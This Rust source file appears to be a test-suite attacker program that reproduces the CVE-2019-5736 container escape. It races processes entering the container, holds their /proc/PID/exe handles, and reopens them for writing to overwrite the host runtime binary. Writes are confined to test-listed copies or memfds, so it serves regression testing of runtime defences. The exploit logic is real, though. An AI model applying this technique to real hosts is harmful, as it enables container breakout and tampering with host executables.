//! CVE-2019-5736 attacker, run inside a container with CAP_SYS_PTRACE (std only, built static
//! by the tests). It holds open the `/proc/PID/exe` of processes that are not the container's
//! own programs, and once told to (the file `/tmp/stop` exists) reopens each through
//! `/proc/self/fd/N` for writing and writes "PWNED" at its start, as the exploit does to the
//! host's runtime binary. It logs to `/tmp/attack.log`, one line an event:
//! `caught PID` / `opened PATH`, then per held file `wrote` or `denied OPEN|WRITE ERRNO`, then
//! `done`.
//!
//! It only ever writes to a file the test named, by `dev ino` lines in `/tmp/targets` (the
//! test's copies of host binaries: an attack that works must not damage the host), or to an
//! anonymous memfd; anything else it sees is logged as `ignored` and let go.
//!
//! attacker race          (as the container's init) every new process of the container
//! attacker hold PATH     (an exec'd process) the file PATH, such as /proc/1/exe

use std::collections::HashSet;
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::unix::fs::MetadataExt;
use std::os::unix::io::AsRawFd;
use std::path::Path;
use std::time::Duration;

fn log(line: &str) {
    let mut f = OpenOptions::new()
        .create(true)
        .append(true)
        .open("/tmp/attack.log")
        .unwrap();
    writeln!(f, "{line}").unwrap();
}

/// (dev, ino) of the container's own programs: never targets.
fn own() -> HashSet<(u64, u64)> {
    ["/bin/busybox", "/bin/attacker"]
        .iter()
        .filter_map(|p| std::fs::metadata(p).ok())
        .map(|m| (m.dev(), m.ino()))
        .collect()
}

/// (dev, ino) the test allows writing to.
fn targets() -> HashSet<(u64, u64)> {
    std::fs::read_to_string("/tmp/targets")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            let mut w = l.split_whitespace().map(|n| n.parse::<u64>().ok());
            Some((w.next()??, w.next()??))
        })
        .collect()
}

fn allowed(f: &File, targets: &HashSet<(u64, u64)>) -> bool {
    let m = f.metadata().unwrap();
    let link = std::fs::read_link(format!("/proc/self/fd/{}", f.as_raw_fd())).unwrap_or_default();
    targets.contains(&(m.dev(), m.ino())) || link.to_string_lossy().starts_with("/memfd:")
}

fn stop() -> bool {
    Path::new("/tmp/stop").exists()
}

/// Reopens `held` for writing and writes. A file something still executes answers ETXTBSY:
/// wait for it to be released, as the exploit waits for the runtime to exit.
fn attack(held: &File) {
    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
    for _ in 0..20_000 {
        match OpenOptions::new().write(true).open(&path) {
            Ok(mut w) => {
                match w.write_all(b"PWNED") {
                    Ok(()) => log("wrote"),
                    Err(e) => log(&format!("denied WRITE {}", e.raw_os_error().unwrap_or(0))),
                }
                return;
            }
            Err(e) if e.raw_os_error() == Some(26) => {
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(e) => {
                log(&format!("denied OPEN {}", e.raw_os_error().unwrap_or(0)));
                return;
            }
        }
    }
    log("denied OPEN 26");
}

fn race() {
    let me = std::process::id().to_string();
    let own = own();
    let targets = targets();
    let mut seen: HashSet<String> = HashSet::new();
    let mut held: Vec<File> = Vec::new();
    while !stop() {
        std::thread::sleep(Duration::from_micros(200));
        let Ok(dir) = std::fs::read_dir("/proc") else {
            continue;
        };
        for e in dir.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|b| b.is_ascii_digit()) || name == me || name == "1" {
                continue;
            }
            if !seen.insert(name.clone()) {
                continue;
            }
            if let Ok(f) = File::open(format!("/proc/{name}/exe")) {
                let m = f.metadata().unwrap();
                if own.contains(&(m.dev(), m.ino())) {
                    continue;
                }
                if allowed(&f, &targets) {
                    log(&format!("caught {name}"));
                    held.push(f);
                } else {
                    log(&format!("ignored {name}"));
                }
            }
        }
    }
    for f in &held {
        attack(f);
    }
    log("done");
}

fn hold(path: &str) {
    let f = File::open(path).unwrap_or_else(|e| {
        log(&format!("denied OPEN {}", e.raw_os_error().unwrap_or(0)));
        log("done");
        std::process::exit(1)
    });
    if !allowed(&f, &targets()) {
        log(&format!("ignored {path}"));
        log("done");
        std::process::exit(1)
    }
    log(&format!("opened {path}"));
    while !stop() {
        std::thread::sleep(Duration::from_millis(5));
    }
    attack(&f);
    log("done");
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        Some("race") => race(),
        Some("hold") => hold(&args[2]),
        _ => {
            eprintln!("usage: attacker race | attacker hold PATH");
            std::process::exit(2)
        }
    }
    // As an init, linger so that the container is still running when the test reads the log.
    loop {
        std::thread::sleep(Duration::from_secs(60));
    }
}
